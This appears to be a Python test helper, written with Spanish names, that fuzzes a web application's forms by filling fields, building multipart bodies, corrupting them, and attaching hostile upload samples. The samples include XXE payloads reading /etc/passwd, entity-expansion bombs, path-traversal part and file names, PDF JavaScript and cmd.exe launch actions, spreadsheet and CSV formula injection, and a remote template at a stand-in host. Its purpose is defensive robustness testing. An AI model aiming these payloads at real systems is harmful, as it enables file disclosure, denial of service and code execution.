"""What is typed and handed in, and how it is packed: honest, hostile, or broken in one place."""

import random
import uuid
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from functools import cache
from itertools import pairwise
from urllib.parse import quote_plus

from tests import muestras

from . import maldades
from .puertas import Campo, Formulario

URLENCODED = "application/x-www-form-urlencoded"
RAYA = "----hostil-raya-0123456789"
CON_LETRAS = ("text", "textarea", "email", "tel", "search", "url", "password")
Valor = str | bytes


@dataclass(frozen=True)
class Archivo:
    nombre: str
    contenido: bytes
    tipo: str = "application/pdf"


Pares = list[tuple[str, Valor | Archivo]]


def decente(campo: Campo, azar: random.Random) -> Valor:
    """What somebody honest might answer; what the page proposes, where it does."""
    if campo.clase in ("select", "radio"):
        posibles = [o for o in campo.opciones if o]
        if campo.valor and azar.random() < 0.5:
            return campo.valor
        return azar.choice(posibles) if posibles else ""
    if campo.clase == "checkbox":
        return campo.valor
    if campo.valor:
        return campo.valor
    de_clase = {
        "date": lambda: f"{date.today() + timedelta(days=azar.randint(1, 40))}",
        "datetime-local": lambda: f"{datetime.now() - timedelta(minutes=5):%Y-%m-%dT%H:%M}",
        "number": lambda: str(azar.randint(1, 9)),
        "email": lambda: "ana@cliente.example",
        "tel": lambda: "55 5555 0100",
    }
    return de_clase.get(campo.clase, lambda: "Por acuerdo." if azar.random() < 0.8 else "")()


def llenar(form: Formulario, azar: random.Random, testigo: str) -> Pares:
    """The whole form as a browser would send it, with a token of its own."""
    pares: Pares = []
    botones = [c for c in form.campos if c.clase == "boton"]
    for campo in form.campos:
        if campo.clase in ("boton", "file"):
            continue
        if campo.nombre == "csrfmiddlewaretoken":
            pares.append((campo.nombre, testigo))
        elif campo.nombre == "ficha":
            pares.append((campo.nombre, str(uuid.UUID(int=azar.getrandbits(128), version=4))))
        elif campo.clase != "checkbox" or azar.random() < 0.5:
            pares.append((campo.nombre, decente(campo, azar)))
    if botones and azar.random() < 0.7:
        boton = azar.choice(botones)
        pares.append((boton.nombre, boton.valor))
    return pares


def cambiar(pares: Pares, nombre: str, valor: Valor | Archivo) -> Pares:
    """Its first value, whichever it was; added where there was none."""
    hecho, salida = False, []
    for n, v in pares:
        if n == nombre and not hecho:
            v, hecho = valor, True
        salida.append((n, v))
    return salida if hecho else [*salida, (nombre, valor)]


# -- packing ---------------------------------------------------------------------------------------


def empacar(pares: Pares, multiparte: bool) -> tuple[str, bytes]:
    """Type and body; a file only travels in parts."""
    if multiparte or any(isinstance(v, Archivo) for _, v in pares):
        return f"multipart/form-data; boundary={RAYA}", en_partes(pares)
    partes = (f"{quote_plus(n)}={quote_plus(v)}" for n, v in pares)
    return URLENCODED, "&".join(partes).encode()


def en_partes(pares: Pares) -> bytes:
    salida = b""
    for nombre, valor in pares:
        cabeza = f'--{RAYA}\r\nContent-Disposition: form-data; name="{nombre}"'
        if isinstance(valor, Archivo):
            cabeza += f'; filename="{valor.nombre}"\r\nContent-Type: {valor.tipo}'
            valor = valor.contenido
        dicho = valor.encode("utf-8", "surrogatepass") if isinstance(valor, str) else valor
        salida += cabeza.encode("utf-8", "surrogatepass") + b"\r\n\r\n" + dicho + b"\r\n"
    return salida + f"--{RAYA}--\r\n".encode()


def romper(cuerpo: bytes, azar: random.Random) -> bytes:
    """A body of parts, wrong in one place."""
    raya = RAYA.encode()
    donde = azar.randrange(len(cuerpo) + 1)
    rotos = [
        lambda: cuerpo[:donde],
        lambda: cuerpo[:donde] + bytes(azar.randrange(256) for _ in range(8)) + cuerpo[donde:],
        lambda: cuerpo.replace(b"\r\n", b"\n"),
        lambda: cuerpo.replace(b"\r\n\r\n", b"\r\n", azar.randint(1, 3)),
        lambda: cuerpo.replace(b"--" + raya + b"--", b"--" + raya),
        lambda: cuerpo.replace(b'name="', b'name="\x00', 1),
        lambda: cuerpo.replace(b'name="', b'nombre="'),
        lambda: cuerpo.replace(b"form-data", b"attachment"),
        lambda: cuerpo.replace(b"Content-Disposition", b"Content-Disposicion", azar.randint(1, 3)),
        lambda: cuerpo.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n", 1),
        lambda: cuerpo.replace(b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: xq\r\n\r\n", 1),
        lambda: cuerpo.replace(
            b"\r\n\r\n", b"\r\nContent-Type: text/plain; charset=utf-16\r\n\r\n", 1
        ),
        lambda: cuerpo.replace(b"\r\n\r\n", b"\r\nX-Largo: " + b"x" * 20_000 + b"\r\n\r\n", 1),
        lambda: cuerpo.replace(b"\r\n\r\n", b"\r\nX: y" * 500 + b"\r\n\r\n", 1),
        lambda: cuerpo.replace(b'name="', b"name*=UTF-8''%ff%00; name=\"", 1),
        lambda: cuerpo.replace(b'name="', b'name="a"; name="', 2),
        lambda: cuerpo.replace(b'filename="', b"filename*=UTF-8''..%2f..%2fx.pdf; filename=\"", 1),
        lambda: b"\r\n".join([b"--" + raya] * 2_000) + cuerpo,
        lambda: cuerpo + cuerpo,
        lambda: b"preambulo" * 1_000 + b"\r\n" + cuerpo + b"epilogo" * 1_000,
        lambda: b"",
    ]
    return azar.choice(rotos)()


# -- files -----------------------------------------------------------------------------------------


@cache
def archivos() -> list[tuple[bytes, str]]:
    """Contents of every kind, honest ones among them, with the type they are said to be of."""
    m, xxe = muestras, '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    letras = "abcdefgh"
    entidades = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in pairwise(letras))
    bomba = f'<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">{entidades}]>'
    muchas = {f"word/p{i}.xml": "x" for i in range(3_000)}
    hoja = lambda antes, celda: m.empacar(  # noqa: E731
        {
            "[Content_Types].xml": m.tipos(m.PRINCIPAL["xlsx"], "/xl/workbook.xml"),
            "_rels/.rels": m.relaciones(m.relacion("officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>'
            '<sheet name="Hoja" sheetId="1" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": m.relaciones(
                m.relacion("worksheet", "worksheets/sheet1.xml")
            ),
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{antes}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            f'<row r="1"><c r="A1" t="inlineStr"><is><t>{celda}</t></is></c></row></sheetData></worksheet>',
        }
    )
    libro = f"{m.OOXML}spreadsheetml.sheet"
    return [
        (m.PDF, "application/pdf"), (m.PNG, "image/png"), (m.JPG, "image/jpeg"), (m.WEBP, "image/webp"),
        (m.HEIC, "image/heic"), (m.TIFF, "image/tiff"), (m.EXE, "application/pdf"), (m.MSG, "application/vnd.ms-outlook"),
        (m.eml(), "message/rfc822"), (m.eml("x.exe"), "message/rfc822"), (m.CHAT, "text/plain"), (m.office(), f"{m.OOXML}wordprocessingml.document"),
        (m.office("docm"), "application/msword"), (m.xlsx(), libro), (m.cfdi(), "text/xml"), (m.cfdi(antes=xxe, dentro="<x>&e;</x>"), "text/xml"),
        (m.cfdi(antes=bomba, dentro="<x>&h;</x>"), "text/xml"), (m.con_relacion("attachedTemplate", "http://malo.example/x.dotm", fuera=True), "application/msword"),
        (m.con_relacion("oleObject", "embeddings/x.bin"), "application/msword"), (m.office(cuerpo=xxe + "<x>&e;</x>"), "application/msword"),
        (m.office(partes=muchas), "application/msword"), (m.office(partes={"../../x.xml": "x", "/etc/x": "y"}), "application/msword"),
        (m.office(partes={"word/grande.xml": "0" * 30_000_000}), "application/msword"), (hoja(xxe, "&e;"), libro), (hoja(bomba, "&h;"), libro),
        (hoja("", "=HYPERLINK(&quot;http://malo.example&quot;)"), libro), (m.pdf("3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj"), "application/pdf"),
        (m.pdf(empacados="<< /S /Launch /F (cmd.exe) >>"), "application/pdf"), (b"%PDF-1.7\n<html><script>xq</script>", "text/html"), (m.PDF[:9], "application/pdf"),
        (b"", "application/pdf"), (b"\x00" * 1_000, "application/pdf"), (b"<html><script>xq</script>", "application/pdf"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='xq()'/>", "image/png"), (b"PK\x03\x04roto", f"{m.OOXML}wordprocessingml.document"), (m.xlsx()[:-30], libro),
        (m.cfb({"adjunto/x": b"MZ"}), "application/msword"), (b"GIF89a" + b"x" * 50, "image/gif"), (b"#!/bin/sh\nsleep 3\n", "text/plain"), (b"=1+1,@x\n", "text/csv"),
        (b"\xff\xfe" + "a\tb\n".encode("utf-16-le") * 500, "text/plain"), (b"a;" * 50_000, "text/csv"), (b"%PDF-1.7\n" + b"0" * (11 * 1024 * 1024), "application/pdf"),
        (b"\x1f\x8b\x08" + b"\x00" * 500, "application/gzip"), (b"BEGIN:VCARD\nFN:xq\nEND:VCARD", "text/vcard"),
    ]  # fmt: skip


def malo(azar: random.Random) -> Archivo:
    # The big ones weigh more on the machine than on the product: one in twenty.
    grandes = azar.random() < 0.05
    contenido, tipo = azar.choice([a for a in archivos() if (len(a[0]) > 1_000_000) == grandes])
    nombres = [
        *maldades.NOMBRES_DE_ARCHIVO,
        "x.pdf",
        "x.docx",
        "x.xlsx",
        "x.xml",
        "x.png",
        "x.eml",
        "x.txt",
    ]
    return Archivo(azar.choice(nombres), contenido, azar.choice([tipo, tipo, "text/html", "x", ""]))
